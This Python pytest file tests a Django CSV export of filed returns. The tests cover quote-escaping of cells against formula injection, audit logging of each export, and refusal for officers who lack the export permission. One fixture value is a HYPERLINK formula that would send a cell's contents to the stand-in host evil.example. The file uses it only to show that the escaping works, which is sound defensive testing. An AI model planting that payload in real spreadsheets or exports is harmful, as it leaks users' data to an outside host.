"""The export of returns for the exchange of information (Art. 21.1(a)): one row per line,
counterpart and payment, every cell escaped against formula injection, audited, refused
without the permission."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.admin import helpers
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from licensing.exceptions import PermissionDenied
from licensing.models import AuditEvent, Verb
from returns.export import export_returns
from returns.models import Return
from tests.factories.returns import (
    ReturnCounterpartFactory,
    ReturnFactory,
    ReturnPaymentFactory,
)

pytestmark = pytest.mark.django_db

RETURNS = reverse("admin:returns_return_changelist")
QUEUE = reverse("admin:returns_returnperiod_changelist")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def filed() -> Return:
    filed = ReturnFactory()
    ReturnCounterpartFactory(filed_return=filed, name=HOSTILE)
    ReturnPaymentFactory(filed_return=filed, bank_name="@SUM(1+1)")
    return filed


def test_a_senior_officer_exports_the_selected_returns_escaped_and_audited(
    client: Any, senior: Any, filed: Return
) -> None:
    client.force_login(senior)
    data = {"action": "export_selected_returns", helpers.ACTION_CHECKBOX_NAME: [filed.pk]}
    page = client.post(RETURNS, data)
    assert page.status_code == 200  # the purpose is asked first
    response = client.post(RETURNS, {**data, "purpose": "Request 12/2026 of SE", "_export": "1"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = rows_of(response.content)
    assert [row["row_kind"] for row in rows] == ["line", "counterpart", "payment"]
    for row in rows:
        assert row["licence_number"] == filed.period.licence.number
        assert row["licensee"] == filed.period.party.legal_name
        assert row["version"] == "1"
        assert row["period_starts_on"] == filed.period.starts_on.isoformat()
    assert rows[1]["name"] == "'" + HOSTILE  # inert: a spreadsheet shows it as text
    assert rows[2]["bank_name"] == "'@SUM(1+1)"
    assert rows[0]["produced"] == "0.000"
    event = AuditEvent.objects.get(verb=Verb.EXPORTED)
    assert event.actor == senior
    # Recorded against the kind of record, as every export is (licensing.exchange.export).
    assert event.object_id == str(ContentType.objects.get_for_model(Return).pk)
    assert event.reason == "Request 12/2026 of SE"
    assert event.changes["ids"] == [filed.pk]


def test_the_queue_exports_the_current_version_of_each_period(
    client: Any, senior: Any, filed: Return
) -> None:
    correction = ReturnFactory(period=filed.period, version=2, reason="late invoice")
    client.force_login(senior)
    data = {
        "action": "export_period_returns",
        helpers.ACTION_CHECKBOX_NAME: [filed.period_id],
        "purpose": "Art. 21",
        "_export": "1",
    }
    rows = rows_of(client.post(QUEUE, data).content)
    assert {row["version"] for row in rows} == {"2"}
    assert {row["return_id"] for row in rows} == {str(correction.public_id)}


def test_an_officer_without_the_export_permission_is_refused(
    client: Any, officer: Any, filed: Return
) -> None:
    client.force_login(officer)
    data = {
        "action": "export_selected_returns",
        helpers.ACTION_CHECKBOX_NAME: [filed.pk],
        "purpose": "curious",
        "_export": "1",
    }
    assert client.post(RETURNS, data).status_code == 403
    assert not AuditEvent.objects.filter(verb=Verb.EXPORTED).exists()
    with pytest.raises(PermissionDenied):
        export_returns(returns=Return.objects.all(), by=officer, purpose="curious")
